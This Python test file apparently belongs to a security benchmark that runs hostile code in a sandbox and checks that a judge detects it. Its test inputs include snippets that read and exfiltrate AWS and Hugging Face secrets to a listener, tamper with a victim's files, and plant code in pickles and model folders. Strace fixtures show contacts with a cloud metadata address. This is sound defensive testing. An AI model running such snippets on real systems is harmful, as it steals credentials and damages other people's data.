"""The attacks are attacks, and the judge sees what they bring about: a benchmark that can't fail would prove
nothing."""

import json
import os
import signal
import socket
import subprocess
import sys
import threading
from pathlib import Path
from random import Random

import pytest

from benchmarks.attacks import ATTACKS, LINES, hostile_decoder, judging
from benchmarks.attacks.hostile_code import clip_folder, model_folder, pickled
from benchmarks.attacks.listening import listener
from benchmarks.attacks.local_ray import connections
from benchmarks.attacks.material import Material
from benchmarks.attacks.names import CONTROLS, ODD_FILES, hostile_text, links, nestings, no_paths, paths_to
from benchmarks.attacks.opened import watched
from benchmarks.attacks.place import Place
from benchmarks.attacks.readers import Reading
from benchmarks.attacks.states import unflushed

pytestmark = pytest.mark.skipif(
    sys.platform != "linux", reason="the kernel's own view of processes and files is used"
)


@pytest.fixture
def place(tmp_path: Path):
    (tmp_path / "material" / "footage").mkdir(parents=True)
    (tmp_path / "material" / "footage" / "wide.mp4").write_bytes(b"a film")
    with listener() as (address, asked):
        yield Place(tmp_path / "place", "attack", Material(tmp_path / "material"), address, asked)


def run(place: Place, code: str, **how: object) -> set[str]:
    """The kinds of harm that a program brings about in a case of its own."""
    place.case(f"case{len(place.cases)}")
    place.harms.clear()
    place.run([sys.executable, "-c", code], **how)
    assert all(harm.case == place.cases[-1] for harm in place.harms)
    return {harm.kind for harm in place.harms}


def test_every_line_is_attacked_and_in_the_short_round_as_well():
    assert {one.line for one in ATTACKS.values()} == set(LINES)
    assert {one.line for one in ATTACKS.values() if one.quick} == set(LINES)


def test_what_does_no_harm_is_none(place):
    assert run(place, "print('all is well')") == set()
    assert (
        run(place, "import sys; print('rushes: no dataset is there', file=sys.stderr); sys.exit(2)") == set()
    )
    assert run(place, "from pathlib import Path; Path('made').write_text('x')") == set()


def test_code_that_ran_is_seen(place):
    assert run(place, f"open({str(place.marks / 'x')!r}, 'w')") == {judging.RAN_CODE}


@pytest.mark.parametrize(
    "how",
    [
        "print(KEY)",
        "import sys; print(KEY.encode().hex(), file=sys.stderr)",
        "import base64; print(base64.b64encode(b'ab' + KEY.encode() + b'c').decode())",
        "open('log', 'w').write('before' + KEY)",
        "open(os.environ['TMPDIR'] + '/x', 'wb').write(KEY.encode('utf-16'))",
        "open(KEY, 'w')",
        "import pyarrow, pyarrow.parquet; pyarrow.parquet.write_table(pyarrow.table({'a': [KEY]}), "
        "'x.parquet', compression='zstd')",
    ],
)
def test_a_key_that_is_told_or_written_is_seen(place, how):
    code = f"import os; KEY = os.environ['AWS_SECRET_ACCESS_KEY']; {how}"
    assert run(place, code, env={"PYTHONPATH": None}) == {judging.LEAKED}


def test_a_key_that_is_sent_is_seen(place):
    code = (
        "import os, urllib.request\n"
        "try: urllib.request.urlopen(os.environ['AWS_ENDPOINT_URL'] + '/' + os.environ['HF_TOKEN'])\n"
        "except urllib.error.HTTPError: pass\n"
    )
    assert run(place, code) == {judging.LEAKED, judging.ESCAPED}


@pytest.mark.parametrize(
    "how",
    [
        "(V / 'secret.txt').read_bytes()",
        "os.listdir(V / 'deep')",
        "(V / 'new').write_text('x')",
        "(V / 'film.mp4').unlink()",
        "(V / 'film.mp4').rename('here.mp4')",
        "os.chmod(V / 'film.mp4', 0o777)",
        "os.symlink(V, 'link'); open('link/secret.txt').read()",
        "os.truncate(V / 'film.mp4', 1)",
    ],
)
def test_what_is_done_outside_is_seen(place, how):
    assert run(place, f"import os; from pathlib import Path; V = Path({str(place.victim)!r}); {how}") == {
        judging.ESCAPED
    }


def test_what_takes_too_long_is_seen_and_ended_with_all_that_it_started(place):
    sleeper = (
        "import subprocess, sys, time; subprocess.Popen([sys.executable, '-c', 'import time; "
        "time.sleep(60)'], start_new_session=True); time.sleep(60)"
    )
    assert run(place, sleeper, limit_s=2) == {judging.HUNG}
    token = place.environment["RUSHES_ATTACK"]
    left = [pid for pid in os.listdir("/proc") if pid.isdecimal() and token in _environment(pid)]
    assert left == []
    assert run(
        place, "import time\nend = time.process_time() + 1\nwhile time.process_time() < end: pass", cpu_s=0.5
    ) == {judging.HUNG}


def _environment(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/environ").read_text(errors="replace")
    except OSError:
        return ""


@pytest.mark.parametrize(
    "how", ["1 / 0", "import sys; sys.exit(7)", f"import os; os.kill(os.getpid(), {int(signal.SIGSEGV)})"]
)
def test_an_end_that_is_none_is_seen(place, how):
    assert run(place, how) == {judging.TRACEBACK}


@pytest.mark.parametrize("name", sorted(set(CONTROLS) - {"newline", "tabs"}))
def test_control_characters_are_seen(place, name):
    assert run(place, f"print({CONTROLS[name]!r})") == {judging.UNMET}


def test_a_reading_that_hangs_crashes_or_raises_something_else_is_seen(place):
    cases = {name: place.case(name) for name in ("well", "line", "hangs")}
    (place.work / "sound.txt").write_text(f"{place.material.film}\n")
    (place.work / "list.parquet").write_bytes(b"no table")
    os.mkfifo(place.work / "pipe.txt")
    readings = [
        Reading(cases["well"], "footage", str(place.work / "sound.txt")),
        Reading(cases["line"], "footage", str(place.work / "list.parquet")),
    ]
    place.read(readings)
    assert place.harms == []
    end = {
        "kind": "other",
        "type": "KeyError",
        "message": "",
        "late": False,
        "signal": 0,
        "cpu_s": 0.1,
        "seconds": 0.1,
        "peak_bytes": 0,
    }
    for change, kind in (
        ({}, judging.UNMET),
        ({"cpu_s": 3.0}, judging.HUNG),
        ({"late": True}, judging.HUNG),
        ({"kind": "nothing", "signal": 11}, judging.TRACEBACK),
        ({"kind": "well", "peak_bytes": 1 << 33}, judging.UNMET),
    ):
        place.harms.clear()
        place._judge_reading(readings[0], {**end, **change}, 2.0)
        assert [harm.kind for harm in place.harms] == [kind]


def test_the_judge_is_not_taken_in_by_a_bomb(tmp_path):
    from time import monotonic

    from benchmarks.attacks.bombs import _long_text, _many_rows

    _many_rows(tmp_path / "rows.parquet", "uri", "canary")
    _long_text(tmp_path / "text.parquet")
    begun = monotonic()
    assert [where for _, where in judging.holders(tmp_path, {"nothing": "x"})] == []
    assert monotonic() - begun < 5


def test_a_case_is_counted_once_for_each_kind_of_harm():
    harms = [
        judging.Harm("a", judging.LEAKED, "x"),
        judging.Harm("a", judging.LEAKED, "y"),
        judging.Harm("b", judging.HUNG, "z"),
    ]
    assert judging.tally(harms) == {
        "ran_code": 0,
        "leaked": 1,
        "escaped": 0,
        "hung": 1,
        "tracebacks": 0,
        "unmet": 0,
    }


def test_files_are_watched_through_links_too(tmp_path):
    (tmp_path / "in" / "deep").mkdir(parents=True)
    (tmp_path / "in" / "deep" / "a").write_text("x")
    (tmp_path / "link").symlink_to("in/deep")
    with watched([tmp_path / "in"]) as seen:
        (tmp_path / "link" / "a").read_text()
    assert f"opened {tmp_path}/in/deep/a" in seen
    with watched([tmp_path / "in"]) as seen:
        pass
    assert seen == []


# --- the attacks are attacks


def test_code_of_a_models_folder_runs_for_whoever_trusts_it(tmp_path):
    from transformers import AutoConfig, AutoTokenizer

    for how, kind in (("type", AutoConfig), ("tokenizer", AutoTokenizer)):
        model_folder(tmp_path / how, tmp_path / f"mark_{how}", how)
        kind.from_pretrained(tmp_path / how, trust_remote_code=True)
        assert (tmp_path / f"mark_{how}").exists()


def test_code_of_a_clip_folder_runs_in_open_clip_itself(tmp_path):
    import open_clip

    clip_folder(tmp_path / "clip", tmp_path / "mark", "kwargs")
    open_clip.get_tokenizer(f"local-dir:{tmp_path / 'clip'}")
    assert (tmp_path / "mark").exists()


def test_a_pickle_runs_where_it_is_unpickled(tmp_path):
    import pickle

    pickled(tmp_path / "weights.bin", tmp_path / "mark")
    pickle.loads((tmp_path / "weights.bin").read_bytes())
    assert (tmp_path / "mark").exists()


def test_hostile_code_in_a_process_without_walls_reaches_nearly_everything(tmp_path):
    """What it can't reach even so would prove nothing about the child that decodes."""
    (tmp_path / "home" / ".aws").mkdir(parents=True)
    (tmp_path / "ds").mkdir()
    (tmp_path / "tmp").mkdir()
    (tmp_path / "ds" / "t.parquet").write_bytes(b"x")
    for name in ("secret", "bait", "rights", "neighbour", "own", "tmp/others", "home/.aws/credentials"):
        (tmp_path / name).write_text("canary")
    with (
        socket.create_server(("127.0.0.1", 0)) as inet,
        socket.socket(socket.AF_UNIX) as unix,
        socket.socket(socket.AF_UNIX) as abstract,
    ):
        unix.bind(str(tmp_path / "s"))
        abstract.bind(f"\0attack-test-{os.getpid()}")
        for server in (unix, abstract):
            server.listen()
        aims = {
            "token": "canary-token", "credentials": str(tmp_path / "home/.aws/credentials"),
            "secret": str(tmp_path / "secret"),
            "neighbour": str(tmp_path / "neighbour"), "dataset": str(tmp_path / "ds"),
            "temporary": str(tmp_path / "tmp" / "others"),
            "port": str(inet.getsockname()[1]), "socket": str(tmp_path / "s"),
            "abstract": f"attack-test-{os.getpid()}",
            "own": str(tmp_path / "own"),
        }  # fmt: skip
        inner = f"from benchmarks.attacks.hostile_decoder import reach; print(reach({aims!r}))"
        outer = f"import subprocess, sys; subprocess.run([sys.executable, '-c', {inner!r}], check=True)"
        env = {**os.environ, "AWS_SECRET_ACCESS_KEY": "canary-token"}
        done = subprocess.run(
            [sys.executable, "-c", outer], env=env, capture_output=True, text=True, check=True, timeout=60
        )
    reached = set(eval(done.stdout))
    always = {
        "ran", "own_environment", "callers_environment", "anybodys_environment", "callers_memory",
        "callers_memory_written", "credentials",
        "victims_text", "victims_folder", "other_footage", "datasets_files", "temporary_files",
        "write_beside_victim", "delete_victim",
        "write_own_file", "write_in_dataset", "write_home", "write_temporary", "link_to_victim",
        "change_rights", "connect", "local_socket",
        "abstract_socket", "socket_inet", "socket_unix", "start_program", "start_made_program",
        "callers_files", "caller_signalled",
        "raise_its_limits",
    }  # fmt: skip
    if os.geteuid():  # then the kernel's own settings may keep processes of one user apart
        always -= {"callers_memory", "callers_memory_written", "raise_its_limits"}
    assert always <= reached


@pytest.mark.parametrize("name", ["fifo", "to_zero", "to_fifo", "to_random"])
def test_who_opens_and_reads_an_odd_file_is_not_done(tmp_path, name):
    ODD_FILES[name](tmp_path / "x.mp4")
    ended = threading.Event()

    def read() -> None:
        with open(tmp_path / "x.mp4", "rb") as file:
            while not ended.is_set() and file.read(1 << 20):
                pass
        done.set()

    done = threading.Event()
    threading.Thread(target=read, daemon=True).start()
    assert not done.wait(0.3)
    ended.set()
    if "fifo" in name:  # wake who waits
        os.close(os.open(tmp_path / "x.mp4", os.O_WRONLY))


def test_each_odd_thing_is_made_and_is_no_film(tmp_path):
    for name, make in ODD_FILES.items():
        make(tmp_path / name)
        assert os.path.lexists(tmp_path / name), name


def test_links_lead_where_they_are_told(tmp_path):
    (tmp_path / "there").mkdir()
    for name in links(tmp_path / "at", tmp_path / "there", Random(0)):
        at = tmp_path / f"at_{name}"
        links(at, tmp_path / "there", Random(0))[name]()
        assert at.is_symlink(), name
        assert at.samefile(tmp_path / "there"), name


def test_paths_that_are_real_name_the_file(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b.mp4").write_text("x")
    ways = paths_to(tmp_path / "b.mp4", tmp_path / "a", Random(1))
    for name in ("absolute", "relative", "up", "dots", "proc_cwd", "double_slash"):
        assert os.path.samefile(os.path.join(tmp_path / "a", ways[name]), tmp_path / "b.mp4"), name


def test_the_same_seed_makes_the_same_attacks_and_another_others():
    for make in (hostile_text, no_paths, lambda draw: list(nestings(draw))):
        assert make(Random(5)) == make(Random(5))
        assert make(Random(5)) != make(Random(6))


def test_deep_json_is_deep():
    texts = dict(nestings(Random(0)))
    for name, text in texts.items():
        with (
            pytest.raises((RecursionError, json.JSONDecodeError))
            if "1e3" not in name or "open" in name
            else _nothing()
        ):
            json.loads(text)


class _nothing:
    def __enter__(self) -> None: ...

    def __exit__(self, kind: object, error: object, trace: object) -> bool:
        return kind in (None, RecursionError)


def test_what_gets_its_name_before_it_is_flushed_is_seen():
    lines = [
        '1 openat(AT_FDCWD</w>, "/w/.a.1", O_WRONLY) = 3</w/.a.1>',
        '1 rename("/w/.a.1", "/w/a") = 0',
        "1 fsync(3</w/.b.1>) = 0",
        '1 rename("/w/.b.1", "/w/b") = 0',
        "1 fsync(3</w/.c/x>) = 0",
        '1 renameat2(AT_FDCWD</w>, ".c", AT_FDCWD</w>, "c", 0) = 0',
        '1 rename("/elsewhere/x", "/elsewhere/y") = 0',
        '1 link("/w/.d", "/w/d") = -1 EEXIST (File exists)',
    ]
    lines.append('1 rename(".e.1", "e") = 0')
    assert unflushed("\n".join(lines), Path("/w")) == [
        f"{name} got its name before its bytes were flushed" for name in "ae"
    ]


def test_connections_to_other_machines_are_seen():
    to = '7 connect(5<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("%s")}, 16) = -1'
    question = r"\252\213\1\0\0\1\0\0\0\0\0\0\10metadata\6google\10internal\0\0\1\0\1"
    lines = [
        to % "169.254.169.254",
        to % "127.0.0.1",
        to.replace("TCP", "UDP") % "8.8.8.8",
        "7 connect(5<TCPv6:[1]>, {sa_family=AF_INET6, sin6_port=htons(443), inet_pton(AF_INET6, "
        '"2001:db8::1", &sin6_addr)}, 28) = -1',
        f'7 sendmmsg(5<UDP:[10.0.0.2:41->9.9.9.9:53]>, [{{msg_hdr={{msg_iov=[{{iov_base="{question}", '
        "iov_len=42}]}}], 1, 0) = 1",
    ]
    assert list(connections("\n".join(lines))) == [
        "connected to 169.254.169.254 port 80",
        "connected to 2001:db8::1 port 443",
        "asked 9.9.9.9 port 53 for metadata.google.internal",
    ]


def test_the_attempts_of_a_decoder_have_names_that_the_report_can_print():
    assert set(hostile_decoder.LEAKS) <= set(hostile_decoder.ATTEMPTS)
    assert all(name.isidentifier() for name in hostile_decoder.ATTEMPTS)
